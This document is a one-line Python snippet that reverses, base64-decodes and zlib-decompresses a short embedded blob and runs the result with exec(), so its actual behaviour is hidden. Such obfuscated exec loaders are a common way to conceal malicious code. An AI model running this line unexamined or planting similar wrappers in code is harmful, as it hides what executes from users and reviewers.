_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'==QDQE7lAQA1SX1S3rsL1LfL2T/s0xgrpg8CMgqzx3ADouyC0XPdxd3NKJ3zNLrUIR91ICt1NhUrLpNe'))
